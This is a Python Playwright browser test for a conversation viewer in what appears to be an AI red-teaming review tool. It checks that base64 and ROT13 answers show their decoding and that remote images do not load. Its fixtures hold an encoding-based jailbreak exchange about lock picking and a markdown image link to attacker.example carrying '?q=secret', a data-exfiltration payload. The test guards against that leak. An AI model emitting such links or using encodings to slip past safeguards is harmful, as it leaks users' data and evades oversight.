"""Reading a conversation in a real browser, at a narrow and a wide window: encoded answers
show their decoding, a markdown answer renders and its remote image loads nothing, the raw text
is one key away, a long piece expands with "show all", and the outline leads to each message."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.memory.row_factories import PieceSpec, make_attack_result, make_conversation
from tests.scoring.row_factories import PASSWORD, make_score, make_user

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("transactional_db")]

PLAIN = "Explain how to pick a pin tumbler lock"
MARKDOWN = (
    "## Steps\n\n1. **Insert** the tension wrench.\n2. Rake the pins.\n\n"
    "![diagram](https://attacker.example/leak.png?q=secret)"
)
LONG = "".join(f"Line {i} of a long answer about pins and springs.\n" for i in range(120))


@pytest.mark.parametrize("width", [800, 1280])
def test_a_reviewer_reads_without_decoding_by_hand(
    logged_in_page: Callable[..., Any], live_server: Any, width: int
) -> None:
    conv = make_conversation(
        [
            [PieceSpec("Answer in base64")],
            [PieceSpec(base64.b64encode(PLAIN.encode()).decode(), role="assistant")],
            [PieceSpec("Now in ROT13")],
            [PieceSpec(codecs.encode(PLAIN, "rot13"), role="assistant")],
            [PieceSpec("Now as markdown")],
            [PieceSpec(MARKDOWN, role="assistant")],
            [PieceSpec("And at length")],
            [PieceSpec(LONG, role="assistant")],
        ]
    )
    make_score(piece=conv.pieces.get(sequence=7), value="true")
    make_attack_result(conv)
    make_user("rita", "reviewer")
    page = logged_in_page("rita", PASSWORD)
    page.set_viewport_size({"width": width, "height": 900})
    foreign: list[str] = []
    page.on(
        "request",
        lambda request: (
            None if request.url.startswith(live_server.url) else foreign.append(request.url)
        ),
    )
    page.goto(f"/conversations/{conv.pk}/")
    page.wait_for_load_state("networkidle")
    messages = page.locator("article.message")

    # Encoded answers show what they say, labelled with the decoding.
    for index, label in ((1, "base64"), (3, "ROT13")):
        decoded = messages.nth(index).locator(".decoded")
        expect(decoded).to_be_visible()
        expect(decoded.locator(".decoded-label")).to_have_text(f"Decoded ({label}):")
        expect(decoded.locator(".text")).to_have_text(PLAIN)
    expect(messages.nth(0).locator(".decoded")).to_have_count(0)

    # The markdown answer renders; its image is a link, and nothing was fetched elsewhere.
    answer = messages.nth(5)
    expect(answer.locator(".md h2")).to_have_text("Steps")
    expect(answer.locator(".md strong")).to_have_text("Insert")
    expect(answer.locator(".raw")).to_be_hidden()
    link = answer.locator("a.md-image")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(page.locator("img")).to_have_count(0)
    assert foreign == []

    # The raw text is one key away, for every markdown value at once; and back.
    page.keyboard.press("m")
    expect(answer.locator(".raw .text")).to_be_visible()
    expect(answer.locator(".raw .text")).to_contain_text("## Steps")
    expect(answer.locator(".md")).to_be_hidden()
    page.keyboard.press("m")
    expect(answer.locator(".md")).to_be_visible()
    # Without the key, the toggle itself switches it.
    answer.locator("label.raw-label").click()
    expect(answer.locator(".raw .text")).to_be_visible()

    # The long answer starts clipped (not a scroll box) and "show all" expands it.
    long_answer = messages.nth(7)
    body = long_answer.locator(".reading-body")
    collapsed = body.evaluate("el => el.getBoundingClientRect().height")
    assert body.evaluate("el => getComputedStyle(el).overflowY") == "hidden"
    text = long_answer.locator(".text")
    assert text.evaluate("el => getComputedStyle(el).overflowY") == "visible"
    assert text.evaluate("el => el.scrollHeight > el.clientHeight") is False
    long_answer.locator("label.all-label").click()
    expect(long_answer.locator(".all-label")).to_contain_text("show less")
    expanded = body.evaluate("el => el.getBoundingClientRect().height")
    assert expanded > collapsed * 2
    expect(long_answer.get_by_text("Line 119 of a long answer")).to_be_visible()

    # The outline leads to each message and carries the score.
    outline = page.locator("#outline")
    expect(outline.locator(".outline-item")).to_have_count(8)
    expect(outline.locator(".outline-item").nth(7)).to_contain_text("true")
    outline.locator('a[href="#message-7"]').click()
    assert page.evaluate("location.hash") == "#message-7"
    expect(page.locator("#message-7")).to_be_in_viewport()

    # Nothing in the messages column reaches past it or past the window (the site header is
    # another part's concern).
    overflowing = page.evaluate(
        """() => {
          const column = document.querySelector(".layout > div").getBoundingClientRect();
          const limit = Math.min(column.right, window.innerWidth) + 1;
          return Array.from(document.querySelectorAll(".layout > div *"))
            .filter(el => el.getBoundingClientRect().right > limit)
            .map(el => el.tagName + "." + el.className);
        }"""
    )
    assert overflowing == []
    assert foreign == []
